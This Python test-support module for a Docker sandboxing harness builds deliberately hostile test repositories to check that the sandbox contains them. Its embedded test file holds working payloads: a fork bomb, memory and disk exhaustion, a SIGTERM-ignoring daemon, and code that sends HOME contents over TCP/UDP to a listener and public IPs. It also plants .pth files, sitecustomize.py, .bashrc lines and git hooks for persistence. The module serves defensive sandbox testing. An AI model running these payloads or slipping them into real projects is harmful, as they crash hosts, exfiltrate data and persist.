"""Hostile repositories: one tiny package whose test misbehaves on purpose.

``hostcalc`` is tinycalc plus ``tests/test_hostile.py``, whose one test reads the committed
file ``hostile.txt`` and does what it names (see :data:`CASES`). Every case is a branch of
one git repository that differs from ``main`` only in that file, so one environment image
is built (the real install, by :meth:`DockerProvider.build_env`) and each case's image is
*derived* from it: the same container state with the working copy moved to the case's
commit and committed under the tag the pipeline computes for that commit. The pipeline
then finds the image and runs everything else for real (clone, baseline, coverage,
generate, judge, write).

Every process a hostile test starts carries :data:`MARK` in its command line, so the host
can count them (``/proc``) and prove none is left behind.
"""

from __future__ import annotations

import os
import socket
import threading
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import docker

from repogym.layout import REPO_DIR, STATE
from repogym.repos import clone
from repogym.sandboxes.docker import DockerProvider, _venv_env
from repogym.sandboxes.images import env_image_tag
from repogym.schemas.records import EnvImage, RepoSpec
from repogym.toolchains import PythonToolchain
from tests.conftest import TINY_PROJECT, git
from tests.processes import pids_marked

MARK = "rg-hostile-mark"
DISK_CAP_MB = 2048  # what the disk filler would write if nothing stopped it

HOSTILE_TEST = r'''
"""Does what hostile.txt says. Every helper process carries MARK in its argv."""
import os
import signal
import socket
import subprocess
import sys
import time
from pathlib import Path

MARK = "%(mark)s"
CASE = Path(__file__).resolve().parent.parent.joinpath("hostile.txt").read_text().split()


def spawn(code, new_session=False):
    return subprocess.Popen([sys.executable, "-c", code, MARK], start_new_session=new_session)


FORKBOMB = """
import os, time
while True:
    try:
        os.fork()
    except OSError:
        time.sleep(0.01)
"""

DAEMON = """
import os, signal, sys, time
if os.fork():
    sys.exit(0)
os.setsid()
if os.fork():
    sys.exit(0)
signal.signal(signal.SIGTERM, signal.SIG_IGN)
signal.signal(signal.SIGHUP, signal.SIG_IGN)
while True:
    time.sleep(0.2)
"""


def case_none():
    pass


def case_forkbomb():
    spawn(FORKBOMB, new_session=True)  # escapes the command's process group
    spawn(FORKBOMB)
    time.sleep(4)


def case_loop():
    while True:
        pass


def case_sleep():
    time.sleep(10 ** 6)


def case_memhog():
    hoard = []
    while True:
        hoard.append(b"x" * (32 << 20))  # touched pages, not lazily mapped zeros


def case_diskfill():
    chunk = os.urandom(1 << 20)
    written = 0
    for where in (Path.cwd() / "fill", Path.home() / "fill", Path("/var/tmp/fill")):
        where.mkdir(exist_ok=True)
        for i in range(%(cap)d // 3):
            try:
                (where / f"f{i // 64}").open("ab").write(chunk)
            except OSError as exc:
                print("disk write stopped:", exc)
                break
            written += 1
    print("wrote MB", written)


def case_network():
    host, port = CASE[1], int(CASE[2])
    for addr in ((host, port), ("1.1.1.1", 53), ("1.1.1.1", 80), ("8.8.8.8", 53)):
        try:
            with socket.create_connection(addr, timeout=2) as conn:
                conn.sendall(b"EXFILTRATED " + os.environ.get("HOME", "").encode())
            print("connected", addr)
        except OSError as exc:
            print("no route", addr, exc)
    for name in ("example.com", "pypi.org"):
        try:
            print("resolved", name, socket.getaddrinfo(name, 80)[0][4])
        except OSError as exc:
            print("no dns", name, exc)
    try:
        u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        u.sendto(b"EXFILTRATED-UDP", (host, port))
    except OSError as exc:
        print("no udp", exc)


def case_daemon():
    spawn(DAEMON)
    time.sleep(0.5)


PTH = "import os; open('/tmp/rg-hostile-pth-ran', 'a').write('x')\n"


def case_escape():
    import site
    import sysconfig
    purelib = Path(sysconfig.get_paths()["purelib"])
    targets = {
        Path("/etc/rg-hostile"): "x",
        Path(sys.prefix) / "rg-hostile": "x",
        purelib / "rg_hostile.pth": PTH,
        purelib / "sitecustomize.py": PTH,
        Path(site.getusersitepackages()) / "rg_hostile.pth": PTH,
        Path.home() / ".bashrc": "echo rg-hostile\n",
        Path.home() / "rg-hostile": "x",
        Path("/tmp/rg-hostile"): "x",
        Path("/var/tmp/rg-hostile"): "x",
        Path("/run/lock/rg-hostile"): "x",
        Path("/dev/shm/rg-hostile"): "x",
        Path("/opt/repogym/rg-hostile"): "x",
        Path(".git/hooks/post-checkout"): "#!/bin/sh\ntouch /tmp/rg-hostile-hook\n",
    }
    for path, text in targets.items():
        try:
            path.parent.mkdir(parents=True, exist_ok=True)
            path.write_text(text)
            print("wrote", path)
        except OSError as exc:
            print("refused", path, type(exc).__name__)


def test_hostile():
    globals()["case_" + CASE[0]]()
'''


@dataclass(frozen=True)
class Case:
    """One hostile behaviour: the words of ``hostile.txt`` and what the run must show."""

    name: str
    words: tuple[str, ...] = ()

    @property
    def text(self) -> str:
        return " ".join((self.name, *self.words)) + "\n"


CASES = ("forkbomb", "loop", "memhog", "diskfill", "network", "daemon", "escape", "sleep")


def hostile_files() -> dict[str, str]:
    files = {k.replace("tinycalc", "hostcalc"): v.replace("tinycalc", "hostcalc")
             for k, v in TINY_PROJECT.items()}
    files["tests/test_hostile.py"] = HOSTILE_TEST % {"mark": MARK, "cap": DISK_CAP_MB}
    files["hostile.txt"] = "none\n"
    return files


# one file of hostile tests among good ones (tinycalc's): each does one of these
SUITE_TESTS = {
    "test_fork_bomb": "case_forkbomb()",
    "test_memory_hog": "case_memhog()",
    "test_disk_filler": "case_diskfill()",
    "test_sleeps_ignoring_sigterm": "signal.signal(signal.SIGTERM, signal.SIG_IGN)\n"
                                    "    case_sleep()",
    "test_connects_out": "case_network()",
}


def hostile_suite_files(host: str, port: int) -> dict[str, str]:
    """tinycalc's package and tests, plus ``tests/test_hostile.py`` with every test of
    :data:`SUITE_TESTS` (``hostile.txt`` names the listener the network test tries)."""
    files = hostile_files()
    body = files["tests/test_hostile.py"].split("\ndef test_hostile():")[0]
    files["tests/test_hostile.py"] = body + "".join(
        f"\n\ndef {name}():\n    {call}\n" for name, call in SUITE_TESTS.items())
    files["hostile.txt"] = f"network {host} {port}\n"
    return files


def make_hostile_repo(root: Path, cases: dict[str, Case]) -> dict[str, str]:
    """``root`` with ``main`` (benign) and one branch per case; case name -> commit sha."""
    from tests.conftest import commit_files

    commits = {"none": commit_files(root, hostile_files())}
    for name, case in cases.items():
        git(root, "checkout", "-q", "-b", name, "main")
        (root / "hostile.txt").write_text(case.text)
        git(root, "commit", "-q", "-am", f"hostile: {name}")
        commits[name] = git(root, "rev-parse", "HEAD")
    git(root, "checkout", "-q", "main")
    return commits


def derive_env(provider: DockerProvider, shared: EnvImage, src: Path, commit: str,
               cache_dir: Path) -> str:
    """The env image the pipeline will look up for ``commit``, made from ``shared``.

    Same install (the cases differ in ``hostile.txt`` only): a container on ``shared``
    moves its working copy to ``commit``, records it as the image's commit, and is
    committed with the tag and labels :meth:`DockerProvider.build_env` would give it.
    """
    checkout = clone(RepoSpec(source=str(src), commit=commit), cache_dir)
    spec = PythonToolchain().env_spec(checkout, shared.spec.base_image)
    assert spec.install_steps == shared.spec.install_steps
    tag = env_image_tag(spec)
    client = provider.client
    container = client.containers.run(shared.ref, command=["sleep", "infinity"], detach=True,
                                      user="root", network_mode="none",
                                      labels=provider.labels("build"))
    try:
        script = (f"set -e; cd {REPO_DIR}; git reset -q --hard {commit}; "
                  f"git rev-parse HEAD > {STATE}/commit; chown -R 1000:1000 {REPO_DIR}")
        code, out = container.exec_run(["bash", "-c", script], user="root")
        assert code == 0, out
        repository, _, version = tag.rpartition(":")
        env = _venv_env(client, shared.spec.base_image)
        labels = {**provider.labels("env"), "repogym.repo": spec.repo,
                  "repogym.digest": spec.digest()}
        container.commit(repository=repository, tag=version, conf={
            "User": "root", "WorkingDir": REPO_DIR, "Cmd": ["sleep", "infinity"],
            "Env": [f"{k}={v}" for k, v in env.items()], "Labels": labels})
    finally:
        container.remove(force=True)
    return tag


# -- what the host sees ------------------------------------------------------------------


def marked_pids() -> list[int]:
    """Host pids whose command line carries :data:`MARK` (container processes included)."""
    return pids_marked(MARK)


def held_mb(upper: str) -> float:
    """What a container holds on the engine's disk: the blocks of its writable layer."""
    total, todo = 0, [upper]
    while todo:
        try:
            entries = list(os.scandir(todo.pop()))
        except OSError:
            continue
        for entry in entries:
            try:
                st = entry.stat(follow_symlinks=False)
            except OSError:
                continue
            if entry.is_dir(follow_symlinks=False):
                todo.append(entry.path)
            total += st.st_blocks * 512
    return total / (1 << 20)


@dataclass
class Observer:
    """Samples the host while a case runs: marked processes and, given the engine and a
    namespace, what each of the namespace's containers holds in its writable layer (free
    disk space would count every other writer on the disk too: image builds, other tests)."""

    client: Any = None
    namespace: str = ""
    period: float = 0.1
    max_procs: int = 0
    max_held_mb: float = 0.0
    _uppers: dict[str, str] = field(default_factory=dict)
    _stop: threading.Event = field(default_factory=threading.Event)
    _thread: threading.Thread | None = None

    def __enter__(self) -> "Observer":
        self._thread = threading.Thread(target=self._run, daemon=True)
        self._thread.start()
        return self

    def __exit__(self, *exc: object) -> None:
        self._stop.set()
        assert self._thread is not None
        self._thread.join()

    def _run(self) -> None:
        while not self._stop.wait(self.period):
            self.max_procs = max(self.max_procs, len(marked_pids()))
            if self.client is not None:
                for upper in self._upper_dirs():
                    self.max_held_mb = max(self.max_held_mb, held_mb(upper))

    def _upper_dirs(self) -> list[str]:
        try:
            ids = [c["Id"] for c in self.client.api.containers(
                all=True, filters={"label": f"repogym.namespace={self.namespace}"})]
        except docker.errors.DockerException:
            return []
        for cid in ids:
            if cid not in self._uppers:
                try:
                    data = self.client.api.inspect_container(cid)["GraphDriver"]["Data"]
                except (docker.errors.DockerException, KeyError, TypeError):
                    continue
                self._uppers[cid] = (data or {}).get("UpperDir") or ""
        return [self._uppers[c] for c in ids if self._uppers.get(c)]


class Listener:
    """A TCP + UDP listener on the host's docker bridge address: records what reaches it."""

    def __init__(self, host: str) -> None:
        self.tcp = socket.create_server((host, 0))
        self.port = self.tcp.getsockname()[1]
        self.udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        self.udp.bind((host, self.port))
        self.tcp.settimeout(0.2)
        self.udp.settimeout(0.2)
        self.received: list[bytes] = []
        self._stop = threading.Event()
        self._thread = threading.Thread(target=self._run, daemon=True)
        self._thread.start()

    def _run(self) -> None:
        while not self._stop.is_set():
            try:
                conn, _ = self.tcp.accept()
                with conn:
                    self.received.append(conn.recv(4096) or b"<connected>")
            except (TimeoutError, socket.timeout):
                pass
            try:
                self.received.append(self.udp.recv(4096))
            except (TimeoutError, socket.timeout):
                pass

    def close(self) -> None:
        self._stop.set()
        self._thread.join()
        self.tcp.close()
        self.udp.close()


def bridge_address(client) -> str:
    """The host's address on Docker's default bridge (what a container would reach).

    Raises:
        LookupError: the engine's description of the bridge names no address at all.
    """
    attrs = client.networks.get("bridge").attrs
    return bridge_address_from(attrs, interface_ipv4(bridge_interface(attrs)))


def bridge_interface(attrs: dict) -> str:
    """The host interface of a bridge network (``docker network inspect`` attrs): its
    ``com.docker.network.bridge.name`` option, by default ``docker0``."""
    return (attrs.get("Options") or {}).get("com.docker.network.bridge.name") or "docker0"


def bridge_address_from(attrs: dict, interface_address: str | None) -> str:
    """The host's address on a bridge network, from its ``docker network inspect`` attrs.

    In order: the IPv4 IPAM config's ``Gateway``, when the engine reports one; else
    ``interface_address``, the address of the bridge's interface
    (:func:`bridge_interface`); else the first host address of the IPAM subnet. Debian's
    engine 20.10 reports the default bridge with a ``Subnet`` and no ``Gateway``.

    Raises:
        LookupError: no gateway, no interface address and no IPv4 subnet.
    """
    import ipaddress

    configs = [c for c in (attrs.get("IPAM") or {}).get("Config") or [] if isinstance(c, dict)]
    v4 = [c for c in configs if ":" not in str(c.get("Subnet", "")) + str(c.get("Gateway", ""))]
    for config in v4:
        if config.get("Gateway"):
            return str(config["Gateway"]).split("/")[0]
    if interface_address:
        return interface_address
    for config in v4:
        if config.get("Subnet"):
            return str(ipaddress.ip_network(config["Subnet"], strict=False)[1])
    raise LookupError(f"bridge {attrs.get('Name', '?')!r}: no gateway, no address on "
                      f"interface {bridge_interface(attrs)!r} and no IPv4 subnet in {configs!r}")


def interface_ipv4(name: str) -> str | None:
    """The IPv4 address of network interface ``name`` (None if it has none or is absent),
    asked of the kernel directly (``SIOCGIFADDR``), so no ``ip`` binary is needed."""
    import fcntl
    import struct

    siocgifaddr = 0x8915
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
        try:
            packed = fcntl.ioctl(sock.fileno(), siocgifaddr,
                                 struct.pack("256s", name.encode()[:15]))
        except OSError:
            return None
    return socket.inet_ntoa(packed[20:24])


